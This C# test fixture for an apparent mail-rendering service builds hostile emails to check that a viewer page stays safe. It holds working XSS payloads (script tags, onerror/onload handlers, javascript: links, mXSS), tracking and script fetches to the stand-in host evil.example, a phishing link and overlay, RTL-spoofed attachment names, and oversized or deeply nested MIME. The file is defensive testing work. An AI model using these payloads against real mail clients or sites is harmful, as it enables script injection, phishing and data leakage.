using System.Text;

namespace ClusterMail.Node.Tests;

/// <summary>Mails that try to deceive or to harm whoever looks at them on the page.</summary>
internal static class HostileMails
{
    /// <summary>A host that must never be asked for anything.</summary>
    public const string Host = "evil.example";

    /// <summary>A word that the recipient's program would show, and so must the page.</summary>
    public const string Visible = "この文章は受信者に見えます";

    public static IReadOnlyDictionary<string, byte[]> All { get; } = new Dictionary<string, byte[]>
    {
        ["html"] = Html(),
        ["attachments"] = Attachments(10_000),
        ["names"] = Attachments(300),
        ["nested"] = Nested(2_000),
        ["huge"] = Huge(),
        ["broken"] = Broken(),
    };

    /// <summary>Headers that cannot be read, a boundary that never comes, and octets of no charset; but lines as SMTP wants them.</summary>
    private static byte[] Broken()
    {
        using var mail = new MemoryStream();
        mail.Write("Subject: =?utf-8?B?////?= \r\nContent-Type: multipart/mixed; boundary=\"\r\nContent-Type: text/html\r\nno header at all\r\n\r\n--\r\n<script>"u8);
        for (var i = 0; i < 4000; i++)
            mail.Write(i % 70 == 69 ? "\r\n"u8 : [(byte)(14 + i * 37 % 242)]);
        mail.Write("\r\n"u8);
        return mail.ToArray();
    }

    private static byte[] Html() => Mail("text/html; charset=utf-8", $$"""
        <html><head><title>x</title><base href="http://{{Host}}/"><meta http-equiv="refresh" content="0;url=http://{{Host}}/refresh">
        <link rel="stylesheet" href="http://{{Host}}/link.css"><link rel="prefetch" href="http://{{Host}}/prefetch"><link rel="dns-prefetch" href="//{{Host}}">
        <style>@import url(http://{{Host}}/import.css); @font-face{font-family:f;src:url(http://{{Host}}/font.woff)} body{font-size:400px!important;background:url(http://{{Host}}/body.png)} .o{position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:#fff}</style></head>
        <body onload="parent.location='http://{{Host}}/onload'" background="http://{{Host}}/background.png">
        <script>fetch('http://{{Host}}/script');document.write('<h1>FORGED</h1>')</script><script src="http://{{Host}}/s.js"></script>
        <div class="o" style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:#fff;font-size:900px">承認済み</div>
        <p style="font-size:2000px;line-height:9999px;margin-left:-9999px;width:expression(alert(1));background:url('http://{{Host}}/css.png');behavior:url(http://{{Host}}/x.htc);-moz-binding:url(http://{{Host}}/x.xml)">{{Visible}}</p>
        <p style="display:none">隠された文章</p><p style="transform:scale(50);filter:invert(1);clip-path:circle(0)">変形</p>
        <img src="http://{{Host}}/pixel.png" onerror="alert(1)"><img srcset="http://{{Host}}/set.png 2x"><picture><source srcset="http://{{Host}}/source.png"></picture>
        <video src="http://{{Host}}/v.mp4" poster="http://{{Host}}/poster.png" autoplay></video><audio src="//{{Host}}/a.mp3"></audio>
        <iframe src="http://{{Host}}/frame"></iframe><object data="http://{{Host}}/o.swf"></object><embed src="http://{{Host}}/e">
        <form action="http://{{Host}}/form"><input name="password" autofocus onfocus="this.form.submit()"><button formaction="http://{{Host}}/b">承認して送信する</button></form>
        <svg onload="alert(1)"><image href="http://{{Host}}/svg.png"/><use href="http://{{Host}}/u.svg#x"/><script>alert(1)</script></svg><math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>
        <a href="javascript:alert(1)">js</a> <a href="http://{{Host}}/phish" target="_top" ping="http://{{Host}}/ping">https://www.corp.example/</a>
        <table background="http://{{Host}}/table.png" width="99999"><tr><td>表</td></tr></table>
        </srcdoc></iframe></body></html><script>parent.document.body.innerHTML=''</script>"><script>top.location='http://{{Host}}/top'</script>
        """, "=?utf-8?B?4oCu44GK44GX44KJ44Gb?= <script>alert(1)</script>\"'><img src=http://evil.example/subject>");

    /// <summary>Names turn the reading direction round, hide characters, and are markup.</summary>
    private static byte[] Attachments(int count)
    {
        var mail = new StringBuilder("From: \"\u202Emoc.knab\" <user2@corp.example>\r\nTo: okyaku@client.example\r\nSubject: attachments\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nhello\r\n");
        for (var i = 0; i < count; i++)
            mail.Append("--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename*=utf-8''").Append(Uri.EscapeDataString(i switch
            {
                0 => "invoice\u202Efdp.exe",
                1 => "a\u200B\u200B\u2066b\u2069.pdf",
                2 => "<img src=http://evil.example/name onerror=alert(1)>.txt",
                3 => new string('長', 300) + ".zip",
                _ => $"ファイル{i}.txt",
            })).Append("\r\n\r\nx\r\n");
        return Encoding.UTF8.GetBytes(mail.Append("--b--\r\n").ToString());
    }

    private static byte[] Nested(int depth)
    {
        var mail = new StringBuilder("Subject: nested\r\nMIME-Version: 1.0\r\n");
        for (var i = 0; i < depth; i++)
            mail.Append("Content-Type: multipart/mixed; boundary=b").Append(i).Append("\r\n\r\n--b").Append(i).Append("\r\n");
        return Encoding.UTF8.GetBytes(mail.Append("Content-Type: text/html\r\n\r\n").Append(string.Concat(Enumerable.Repeat("<div><b><i>", 3000))).Append("deep\r\n").ToString());
    }

    private static byte[] Huge() => Mail("text/html; charset=utf-8", string.Concat(Enumerable.Repeat("<table><tr><td style='width:90000px'><font size=7>長い行がどこまでも続くメールです<b>", 6000)) + new string('W', 300_000), "=?utf-8?B?6ZW3?=" + new string('A', 900));

    private static byte[] Mail(string type, string body, string subject) => Encoding.UTF8.GetBytes(
        $"From: \"<script>alert(1)</script>\" <user2@corp.example>\r\nTo: okyaku@client.example\r\nSubject: {subject}\r\nMIME-Version: 1.0\r\nContent-Type: {type}\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + Convert.ToBase64String(Encoding.UTF8.GetBytes(body), Base64FormattingOptions.InsertLineBreaks).ReplaceLineEndings("\r\n") + "\r\n");
}
